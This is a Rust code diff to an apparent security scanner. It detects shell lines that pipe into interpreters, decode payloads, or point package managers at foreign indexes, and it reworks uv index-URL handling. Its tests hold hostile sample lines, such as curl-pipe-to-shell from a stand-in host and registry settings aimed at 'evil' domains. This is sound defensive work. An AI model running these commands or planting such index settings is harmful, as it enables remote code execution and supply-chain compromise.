@@ -650,12 +650,7 @@ fn runs_stdin(
         // `iex`, `Invoke-Expression`, `source`: run what they are given.
         _ => return true,
     };
-    let is_stdin = |a: &[u8]| {
-        matches!(
-            a,
-            b"-" | b"/dev/stdin" | b"/dev/fd/0" | b"/proc/self/fd/0"
-        )
-    };
+    let is_stdin = |a: &[u8]| matches!(a, b"-" | b"/dev/stdin" | b"/dev/fd/0" | b"/proc/self/fd/0");
     let args = &toks[j + 1..];
     let mut k = 0;
     while k < args.len().min(16) {
@@ -675,7 +670,8 @@ fn runs_stdin(
             let Some(name) = low.strip_prefix(b"-") else {
                 // A positional argument: pwsh's is a script file; Windows PowerShell's is the
                 // command itself.
-                return family == Family::WindowsPowerShell && inline_runs_stdin(line, a.s, false, budget);
+                return family == Family::WindowsPowerShell
+                    && inline_runs_stdin(line, a.s, false, budget);
             };
             let name = name.strip_prefix(b"-").unwrap_or(name);
             let is = |full: &[u8], short: &[&[u8]]| {
@@ -744,7 +740,9 @@ fn runs_stdin(
         }
         let cluster = match arg.strip_prefix(b"-").or_else(|| {
             // `set +o` spellings: `bash +o posix`.
-            (family == Family::Shell).then(|| arg.strip_prefix(b"+")).flatten()
+            (family == Family::Shell)
+                .then(|| arg.strip_prefix(b"+"))
+                .flatten()
         }) {
             Some(c) => c,
             // A script file: standard input is its data.
@@ -757,8 +755,9 @@ fn runs_stdin(
             // Inline code: in the rest of the cluster, else the next argument.
             let inline = |k: usize| {
                 if rest.is_empty() {
-                    args.get(k + 1)
-                        .is_some_and(|v| inline_runs_stdin(line, v.s, family == Family::Shell, budget))
+                    args.get(k + 1).is_some_and(|v| {
+                        inline_runs_stdin(line, v.s, family == Family::Shell, budget)
+                    })
                 } else {
                     inline_runs_stdin(line, a.s + 1 + n + 1, family == Family::Shell, budget)
                 }
@@ -777,10 +776,16 @@ fn runs_stdin(
                     break;
                 }
                 (Family::Perl, b'e' | b'E') | (Family::Ruby, b'e') => return inline(k),
-                (Family::Perl, b'M' | b'm' | b'I' | b'i' | b'x' | b'C' | b'F' | b'd' | b'D' | b'V') => {
+                (
+                    Family::Perl,
+                    b'M' | b'm' | b'I' | b'i' | b'x' | b'C' | b'F' | b'd' | b'D' | b'V',
+                ) => {
                     break;
                 }
-                (Family::Ruby, b'r' | b'I' | b'C' | b'E' | b'x' | b'0' | b'K' | b'T' | b'W' | b'F') => {
+                (
+                    Family::Ruby,
+                    b'r' | b'I' | b'C' | b'E' | b'x' | b'0' | b'K' | b'T' | b'W' | b'F',
+                ) => {
                     skip_value = rest.is_empty() && matches!(c, b'r' | b'I' | b'C' | b'E');
                     break;
                 }
@@ -825,11 +830,18 @@ fn inline_runs_stdin(line: &[u8], at: usize, shell: bool, budget: &std::cell::Ce
         Some(q) => {
             let mut i = 0;
             while i < window.len() && window[i] != q {
-                i += if q == b'"' && window[i] == b'\\' { 2 } else { 1 };
+                i += if q == b'"' && window[i] == b'\\' {
+                    2
+                } else {
+                    1
+                };
             }
             i.min(window.len())
         }
-        None => window.iter().position(|&b| is_delim(b)).unwrap_or(window.len()),
+        None => window
+            .iter()
+            .position(|&b| is_delim(b))
+            .unwrap_or(window.len()),
     };
     budget.set(budget.get().saturating_sub(end.max(1)));
     let code = window[..end].to_ascii_lowercase();
@@ -924,11 +936,12 @@ pub fn is_decoder_command(word: &str) -> bool {
 /// A line of a package manager's configuration that points it at an index other than the
 /// registry's own: where the URL starts. `keys`: a configuration file's keys count
 /// (`index-url = URL` in `pip.conf` / `uv.toml`, `registry=URL` and `@scope:registry=URL` in
-/// `.npmrc`, `npmRegistryServer: URL` in `.yarnrc.yml`, `url = URL` in an `[[index]]` table);
-/// without, only a requirements file's options (`--index-url URL`, `-i URL`,
-/// `--extra-index-url`, `--find-links`, `-f`), which `pip install -r` reads from any `.txt`.
+/// `.npmrc`, `npmRegistryServer: URL` in `.yarnrc.yml`); `url`: the line sits where a `url` key
+/// names an index (uv's `[[tool.uv.index]]` / `[[index]]`, or an inline table there: `{ name =
+/// "x", url = URL }`), so a `url` key anywhere on it counts; without either, only a requirements
+/// file's options (`--index-url URL`, `-i URL`, `--extra-index-url`, `--find-links`, `-f`).
 /// One pass over the line.
-pub fn index_setting(line: &[u8], keys: bool) -> Option<usize> {
+pub fn index_setting(line: &[u8], keys: bool, url: bool) -> Option<usize> {
     let start = line.len() - line.trim_ascii_start().len();
     let rest = &line[start..];
     let key_len = rest
@@ -954,18 +967,35 @@ pub fn index_setting(line: &[u8], keys: bool) -> Option<usize> {
                 | b"default-index"
                 | b"registry"
                 | b"npmregistryserver"
-                | b"url"
         ) || key.ends_with(b":registry"));
-    if !option && !setting {
+    let mut toks = Vec::new();
+    let foreign = |at: usize, toks: &[Tok]| {
+        toks.iter()
+            .find(|t| memchr::memmem::find(&line[at + t.s..at + t.e], b"://").is_some())
+            .filter(|t| foreign_index(&line[at + t.s..at + t.e].to_ascii_lowercase()))
+            .map(|t| at + t.s)
+    };
+    if option || setting {
+        let at = start + key_len;
+        tokenize(&line[at..], &mut toks);
+        return foreign(at, &toks);
+    }
+    if !url {
         return None;
     }
-    let at = start + key_len;
-    let mut toks = Vec::new();
-    tokenize(&line[at..], &mut toks);
-    toks.iter()
-        .find(|t| memchr::memmem::find(&line[at + t.s..at + t.e], b"://").is_some())
-        .filter(|t| foreign_index(&line[at + t.s..at + t.e].to_ascii_lowercase()))
-        .map(|t| at + t.s)
+    // `url = URL`, as the line's key or in an inline table: the value after a `url` key.
+    tokenize(line, &mut toks);
+    let i = toks.iter().position(|t| {
+        line[t.s..t.e].eq_ignore_ascii_case(b"url")
+            && line[t.e..]
+                .iter()
+                .find(|&&b| !matches!(b, b' ' | b'\t' | b'"' | b'\''))
+                == Some(&b'=')
+    })?;
+    // The value: the next token, which the scan reads as a URL.
+    toks.get(i + 1)
+        .filter(|t| foreign_index(&line[t.s..t.e].to_ascii_lowercase()))
+        .map(|t| t.s)
 }
 
 /// A word that decodes text: `base64 -d`, `base32 --decode`, `xxd -r`, `openssl enc -d`,
@@ -1811,7 +1841,11 @@ mod tests {
             let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
             assert!(has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
             let decoded = format!("base64 -d payload.b64 | {tail}");
-            assert!(has(&decoded, R, DECODED_RUN), "{decoded}: {:?}", hits(&decoded));
+            assert!(
+                has(&decoded, R, DECODED_RUN),
+                "{decoded}: {:?}",
+                hits(&decoded)
+            );
             assert!(runs_decoded(decoded.as_bytes()), "{decoded}");
         }
         for tail in [
@@ -1840,7 +1874,11 @@ mod tests {
             let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
             assert!(!has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
             let decoded = format!("base64 -d payload.b64 | {tail}");
-            assert!(!has(&decoded, R, DECODED_RUN), "{decoded}: {:?}", hits(&decoded));
+            assert!(
+                !has(&decoded, R, DECODED_RUN),
+                "{decoded}: {:?}",
+                hits(&decoded)
+            );
             assert!(!runs_decoded(decoded.as_bytes()), "{decoded}");
         }
         // A download still counts as one.
@@ -1876,7 +1914,7 @@ mod tests {
         ] {
             assert!(!has(line, D, PACKAGE_INDEX), "{line}: {:?}", hits(line));
         }
-        let at = |line: &str, keys| index_setting(line.as_bytes(), keys);
+        let at = |line: &str, keys| index_setting(line.as_bytes(), keys, false);
         assert_eq!(
             at("--index-url https://evil.pdfhost.net/simple", false),
             Some(12)
@@ -1889,7 +1927,6 @@ mod tests {
         assert!(at("registry=https://npm.evilhost.net/", true).is_some());
         assert!(at("@acme:registry=https://npm.evilhost.net/", true).is_some());
         assert!(at("npmRegistryServer: \"https://npm.evilhost.net\"", true).is_some());
-        assert!(at("url = \"https://evil.pdfhost.net/simple\"", true).is_some());
         assert!(
             at(
                 "extra-index-url = [\"https://evil.pdfhost.net/simple\"]",
@@ -1904,6 +1941,18 @@ mod tests {
         assert!(at("requests>=2 # see https://evil.pdfhost.net", false).is_none());
         assert!(at("homepage = https://evil.pdfhost.net", true).is_none());
         assert!(at("--index-url https://localhost:8080/simple", false).is_none());
+        // `url` names an index only where the caller says it does (uv's index tables), as the
+        // line's key or in an inline table; elsewhere it is a link.
+        let url = |line: &str| index_setting(line.as_bytes(), true, true);
+        assert!(at("url = \"https://evil.pdfhost.net/simple\"", true).is_none());
+        assert_eq!(url("url = \"https://evil.pdfhost.net/simple\""), Some(7));
+        assert!(url("  { name = \"x\", url = \"https://evil.pdfhost.net/simple\" },").is_some());
+        assert!(
+            url("index = [{ name = \"x\", \"url\" = \"https://evil.pdfhost.net/s\" }]").is_some()
+        );
+        assert!(url("url = \"https://pypi.org/simple\"").is_none());
+        assert!(url("publish-url = \"https://evil.pdfhost.net/legacy\"").is_none());
+        assert!(url("name = \"url\"").is_none());
     }
 
     fn hits_in(line: &str, mode: Mode, before: &str) -> Vec<(HitKind, String)> {
